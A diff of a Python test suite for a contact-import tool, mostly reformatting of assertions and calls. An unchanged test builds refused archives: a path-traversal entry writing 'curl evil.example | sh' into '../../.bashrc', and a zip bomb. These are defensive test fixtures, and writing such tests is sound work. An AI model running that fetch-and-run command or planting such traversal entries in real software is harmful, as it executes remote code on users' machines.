@@ -36,7 +36,11 @@ class TestArchives:
         assert sorted(c.name for c in Store.open(data).contacts()) == ["Ada Lovelace", "Grace Hopper"]
         assert requests(data) == [("Dorothy Vaughan", "sent"), ("Katherine Johnson", "pending"), ("Zoë Ní Bhriain", "pending")]
         again = json.loads(run(data, "import", str(archive), "--json").stdout)
-        assert (again["added"], again["unchanged"], [f["file"].rsplit("/", 1)[-1] for f in again["files"]]) == (0, 5, ["Connections.csv", "Invitations.csv"])
+        assert (again["added"], again["unchanged"], [f["file"].rsplit("/", 1)[-1] for f in again["files"]]) == (
+            0,
+            5,
+            ["Connections.csv", "Invitations.csv"],
+        )
 
     @pytest.mark.parametrize("kind", ["traversal", "bomb"])
     def test_refused_archives_exit_2_and_leave_the_store_unchanged(self, tmp_path: Path, kind: str) -> None:
@@ -49,7 +53,9 @@ class TestArchives:
             if kind == "traversal":
                 archive.writestr("../../.bashrc", "curl evil.example | sh\n")
             else:
-                archive.writestr("Connections.csv", b"First Name,Last Name,Email Address,Company,Position,Connected On\n" + b"\0" * (48 * 2**20))
+                archive.writestr(
+                    "Connections.csv", b"First Name,Last Name,Email Address,Company,Position,Connected On\n" + b"\0" * (48 * 2**20)
+                )
         result = run(data, "import", str(target), code=2)
         assert result.stderr.count("\n") == 1 and str(target) in result.stderr
         assert ("outside the archive" if kind == "traversal" else "zip bomb") in result.stderr
@@ -75,8 +81,13 @@ class TestMail:
         assert "0 added, 2 updated" in csv
         archive = zip_folder(SOURCES / "linkedin", tmp_path / "Basic_LinkedInDataExport_01-29-2026.zip")
         run(data, "import", str(archive))  # Zoë again, by her profile URL
-        assert requests(data) == [("Ama Mensah", "pending"), ("Dorothy Vaughan", "sent"), ("Katherine Johnson", "pending"),
-                                  ("Michael McAuliffe", "pending"), ("Zoë Ní Bhriain", "pending")]
+        assert requests(data) == [
+            ("Ama Mensah", "pending"),
+            ("Dorothy Vaughan", "sent"),
+            ("Katherine Johnson", "pending"),
+            ("Michael McAuliffe", "pending"),
+            ("Zoë Ní Bhriain", "pending"),
+        ]
 
     def test_an_eml_file(self, tmp_path: Path) -> None:
         data = tmp_path / "data"
@@ -95,7 +106,6 @@ class TestDeclinedBefore:
         store.import_records(parsed.contacts, parsed.requests)
         pending = store.pending()
         decided, records = store.decided_keys()
-        context = build_context(pending, store.contact_keys(), decided, records, store.decided_at(),
-                                record_keys)
+        context = build_context(pending, store.contact_keys(), decided, records, store.decided_at(), record_keys)
         tom = next(r for r in pending if r.name == "Tom Baker")
         assert context.history[tom.id].startswith("Declined before, 2023-11-14")
